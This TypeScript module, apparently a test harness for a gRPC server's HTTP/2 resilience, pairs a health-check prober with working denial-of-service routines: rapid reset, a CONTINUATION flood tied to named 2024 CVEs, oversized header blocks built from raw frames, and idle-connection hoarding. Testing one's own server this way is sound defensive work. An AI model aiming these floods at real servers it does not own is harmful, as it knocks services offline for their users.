/**
 * HTTP/2 abuse against a real server, with raw `node:http2` sessions and raw
 * frames over `net.Socket` (node's client cannot send CONTINUATION frames):
 * a well-behaved prober, rapid reset, a CONTINUATION flood, idle hoarding.
 */
import http2 from "node:http2";
import net from "node:net";

const HEALTH_CHECK = "/grpc.health.v1.Health/Check";
/** gRPC framing of an empty HealthCheckRequest (service ""): uncompressed, length 0. */
const EMPTY_GRPC_MESSAGE = Buffer.alloc(5);

/** One gRPC Health/Check on `session`; resolves with grpc-status, rejects after `deadlineMs`. */
export function healthCheck(session: http2.ClientHttp2Session, deadlineMs: number): Promise<string> {
  return new Promise((resolve, reject) => {
    const req = session.request({ ":method": "POST", ":path": HEALTH_CHECK, "content-type": "application/grpc", te: "trailers" });
    const timer = setTimeout(() => {
      req.close(http2.constants.NGHTTP2_CANCEL);
      reject(new Error(`no answer within ${deadlineMs} ms`));
    }, deadlineMs);
    let status: string | undefined;
    req.on("response", (headers) => (status ??= headers["grpc-status"] as string | undefined));
    req.on("trailers", (trailers) => (status ??= trailers["grpc-status"] as string | undefined));
    req.on("data", () => undefined);
    req.on("error", (err) => {
      clearTimeout(timer);
      reject(err);
    });
    req.on("close", () => {
      clearTimeout(timer);
      if (status !== undefined) resolve(status);
      else reject(new Error(`stream closed without grpc-status (rst code ${req.rstCode})`));
    });
    req.end(EMPTY_GRPC_MESSAGE);
  });
}

export interface ProbeReport {
  ok: number;
  failures: string[];
  /** Slowest answer, ms (reported, never asserted). */
  slowestMs: number;
}

/** A well-behaved client: a Health/Check every `everyMs` on its own connection until stop(). */
export function startProber(address: string, everyMs = 100, deadlineMs = 5_000) {
  const session = http2.connect(`http://${address}`);
  session.on("error", () => undefined);
  const report: ProbeReport = { ok: 0, failures: [], slowestMs: 0 };
  let running = true;
  const loop = (async () => {
    while (running) {
      const t0 = performance.now();
      try {
        const status = await healthCheck(session, deadlineMs);
        if (status === "0") report.ok++;
        else report.failures.push(`grpc-status ${status}`);
      } catch (error) {
        report.failures.push((error as Error).message);
      }
      report.slowestMs = Math.max(report.slowestMs, performance.now() - t0);
      await new Promise((r) => setTimeout(r, everyMs));
    }
  })();
  return {
    report,
    async stop(): Promise<ProbeReport> {
      running = false;
      await loop;
      session.close();
      return report;
    },
  };
}

export interface RapidResetReport {
  opened: number;
  /** How the server ended the attacking connection, if it did (GOAWAY code or error). */
  endedBy?: string;
}

/** Opens `streams` Health/Check streams and cancels each at once (RST_STREAM), `batch` per tick. */
export async function rapidReset(address: string, streams: number, batch = 250): Promise<RapidResetReport> {
  const session = http2.connect(`http://${address}`);
  const report: RapidResetReport = { opened: 0 };
  session.on("goaway", (code) => (report.endedBy ??= `GOAWAY ${code}`));
  session.on("error", (err) => (report.endedBy ??= (err as NodeJS.ErrnoException).code ?? err.message));
  await new Promise<void>((resolve, reject) => {
    session.once("connect", () => resolve());
    session.once("error", reject);
  });
  while (report.opened < streams && !session.closed && !session.destroyed) {
    for (let i = 0; i < batch && report.opened < streams; i++) {
      try {
        const req = session.request({ ":method": "POST", ":path": HEALTH_CHECK, "content-type": "application/grpc", te: "trailers" });
        req.on("error", () => undefined);
        req.close(http2.constants.NGHTTP2_CANCEL);
        report.opened++;
      } catch (error) {
        report.endedBy ??= (error as NodeJS.ErrnoException).code ?? (error as Error).message;
        break;
      }
    }
    await new Promise((r) => setImmediate(r));
  }
  await new Promise((r) => setTimeout(r, 200));
  session.destroy();
  return report;
}

function frame(type: number, flags: number, streamId: number, payload: Buffer): Buffer {
  const head = Buffer.alloc(9);
  head.writeUIntBE(payload.length, 0, 3);
  head.writeUInt8(type, 3);
  head.writeUInt8(flags, 4);
  head.writeUInt32BE(streamId & 0x7fffffff, 5);
  return Buffer.concat([head, payload]);
}

/** An HPACK integer with a 7-bit prefix and H=0 (RFC 7541 5.1). */
function hpackLength(n: number): Buffer {
  if (n < 127) return Buffer.from([n]);
  const bytes = [127];
  for (n -= 127; n >= 128; n >>= 7) bytes.push((n & 0x7f) | 0x80);
  bytes.push(n);
  return Buffer.from(bytes);
}

/** HPACK "literal header field without indexing, new name" (RFC 7541 6.2.2). */
function literal(name: string, value: string): Buffer {
  return Buffer.concat([Buffer.from([0x00]), hpackLength(name.length), Buffer.from(name), hpackLength(value.length), Buffer.from(value)]);
}

/** Splits frames of a received byte stream: [type, flags, stream id, payload]. */
function framesOf(bytes: Buffer): { type: number; flags: number; stream: number; payload: Buffer }[] {
  const frames = [];
  for (let i = 0; i + 9 <= bytes.length; ) {
    const len = bytes.readUIntBE(i, 3);
    if (i + 9 + len > bytes.length) break;
    frames.push({ type: bytes[i + 3]!, flags: bytes[i + 4]!, stream: bytes.readUInt32BE(i + 5) & 0x7fffffff, payload: bytes.subarray(i + 9, i + 9 + len) });
    i += 9 + len;
  }
  return frames;
}

export interface OversizedReport {
  headerBytes: number;
  frames: number;
  /** What the server did with stream 1: answered it (HEADERS), reset it (RST_STREAM code), or ended the connection (GOAWAY code). */
  outcome: string;
}

/**
 * One request whose header list is `count` headers of `valueBytes` each (over
 * the 64 KiB SETTINGS_MAX_HEADER_LIST_SIZE Node advertises, under its 128
 * pairs), in a HEADERS frame and as few CONTINUATION frames as 16 KiB frames allow.
 */
export async function oversizedHeaders(port: number, count: number, valueBytes: number): Promise<OversizedReport> {
  const socket = net.connect(port, "127.0.0.1");
  socket.on("error", () => undefined);
  let received = Buffer.alloc(0);
  let decided: () => void = () => undefined;
  const decisive = new Promise<void>((r) => (decided = r));
  socket.on("data", (d) => {
    received = Buffer.concat([received, d]);
    if (framesOf(received).some((f) => (f.stream === 1 && (f.type === 0x1 || f.type === 0x3)) || f.type === 0x7)) decided();
  });
  const gone = new Promise<void>((r) => socket.once("close", () => r()));
  await new Promise<void>((resolve, reject) => {
    socket.once("connect", resolve);
    socket.once("error", reject);
  });
  const value = "v".repeat(valueBytes);
  const block = Buffer.concat([
    literal(":method", "POST"),
    literal(":scheme", "http"),
    literal(":path", HEALTH_CHECK),
    literal(":authority", "x"),
    literal("content-type", "application/grpc"),
    literal("te", "trailers"),
    ...Array.from({ length: count }, (_, i) => literal(`x-big-${i}`, value)),
  ]);
  const chunks: Buffer[] = [];
  for (let i = 0; i < block.length; i += 16_384) chunks.push(block.subarray(i, i + 16_384));
  const out = [Buffer.from("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"), frame(0x4, 0, 0, Buffer.alloc(0))];
  chunks.forEach((chunk, i) => {
    const last = i === chunks.length - 1 ? 0x4 : 0; // END_HEADERS on the last
    out.push(i === 0 ? frame(0x1, 0x1 | last, 1, chunk) : frame(0x9, last, 1, chunk)); // END_STREAM on HEADERS
  });
  socket.write(Buffer.concat(out));
  await Promise.race([gone, decisive, new Promise((r) => setTimeout(r, 5_000))]);
  socket.destroy();
  const frames = framesOf(received);
  const onStream = frames.find((f) => f.stream === 1 && (f.type === 0x1 || f.type === 0x3));
  const goaway = frames.find((f) => f.type === 0x7);
  const outcome = onStream?.type === 0x1 ? "answered (HEADERS)" : onStream ? `RST_STREAM ${onStream.payload.readUInt32BE(0)}` : goaway ? `GOAWAY ${goaway.payload.readUInt32BE(4)}` : "no reply";
  return { headerBytes: block.length, frames: chunks.length, outcome };
}

export interface ContinuationReport {
  framesSent: number;
  bytesSent: number;
  /** Did the server close the connection before we ran out of budget? */
  closedByServer: boolean;
  /** The GOAWAY error code the server sent, if any. */
  goawayCode?: number;
}

/**
 * The CONTINUATION flood (2024, e.g. CVE-2024-27983/-27316): HEADERS without
 * END_HEADERS on stream 1, then up to `frames` CONTINUATION frames of ~1 KiB
 * of fresh literal headers (`headersPerFrame` of 100-byte values, default 9),
 * never ending the header block, `pauseMs` apart (default 0: as fast as the
 * socket takes them). Stops when the server closes the connection, or after `maxMs`.
 */
export async function continuationFlood(port: number, frames: number, shape: { headersPerFrame?: number; pauseMs?: number } = {}, maxMs = 8_000): Promise<ContinuationReport> {
  const { headersPerFrame = 9, pauseMs = 0 } = shape;
  const socket = net.connect(port, "127.0.0.1");
  const report: ContinuationReport = { framesSent: 0, bytesSent: 0, closedByServer: false };
  let closed = false;
  let received = Buffer.alloc(0);
  socket.on("data", (d) => {
    received = Buffer.concat([received, d]).subarray(-65536);
    // A GOAWAY frame (type 7): its error code is the second 4 bytes of the payload.
    for (let i = 0; i + 9 <= received.length; ) {
      const len = received.readUIntBE(i, 3);
      if (received[i + 3] === 7 && i + 9 + 8 <= received.length) report.goawayCode = received.readUInt32BE(i + 9 + 4);
      i += 9 + len;
    }
  });
  socket.on("error", () => undefined);
  const gone = new Promise<void>((r) =>
    socket.once("close", () => {
      closed = true;
      r();
    }),
  );
  await new Promise<void>((resolve, reject) => {
    socket.once("connect", resolve);
    socket.once("error", reject);
  });
  const write = async (buf: Buffer) => {
    report.bytesSent += buf.length;
    if (!socket.write(buf)) await Promise.race([new Promise((r) => socket.once("drain", r)), gone]);
  };
  await write(Buffer.from("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"));
  await write(frame(0x4, 0, 0, Buffer.alloc(0))); // SETTINGS, none
  const pseudo = Buffer.concat([literal(":method", "POST"), literal(":scheme", "http"), literal(":path", HEALTH_CHECK), literal(":authority", "x")]);
  await write(frame(0x1, 0, 1, pseudo)); // HEADERS, no END_HEADERS
  const value = "v".repeat(100);
  const started = Date.now();
  for (let n = 0; n < frames && !closed && Date.now() - started < maxMs; n++) {
    const headers = Buffer.concat(Array.from({ length: headersPerFrame }, (_, i) => literal(`x-f${(n * headersPerFrame + i) % 100000}`, value)));
    await write(frame(0x9, 0, 1, headers)); // CONTINUATION, no END_HEADERS
    report.framesSent++;
    if (pauseMs > 0) await new Promise((r) => setTimeout(r, pauseMs));
  }
  await Promise.race([gone, new Promise((r) => setTimeout(r, 1_000))]);
  report.closedByServer = closed;
  socket.destroy();
  return report;
}

/** Opens `count` HTTP/2 sessions and keeps them, idle; `closedCount()` says how many the server has closed since. */
export async function holdIdleSessions(address: string, count: number) {
  const sessions = await Promise.all(
    Array.from({ length: count }, () => {
      const session = http2.connect(`http://${address}`);
      session.on("error", () => undefined);
      return new Promise<http2.ClientHttp2Session>((resolve, reject) => {
        session.once("connect", () => resolve(session));
        session.once("error", reject);
      });
    }),
  );
  return {
    closedCount: () => sessions.filter((s) => s.closed || s.destroyed).length,
    close: () => sessions.forEach((s) => s.destroy()),
  };
}

/** Opens `count` plain TCP sockets to `port` and sends nothing; `closedCount()` says how many the server has closed. */
export async function holdIdleSockets(port: number, count: number) {
  let closed = 0;
  const sockets = await Promise.all(
    Array.from({ length: count }, () => {
      const socket = net.connect(port, "127.0.0.1");
      socket.on("error", () => undefined);
      socket.once("close", () => closed++);
      return new Promise<net.Socket>((resolve) => socket.once("connect", () => resolve(socket)));
    }),
  );
  return { closedCount: () => closed, close: () => sockets.forEach((s) => s.destroy()) };
}
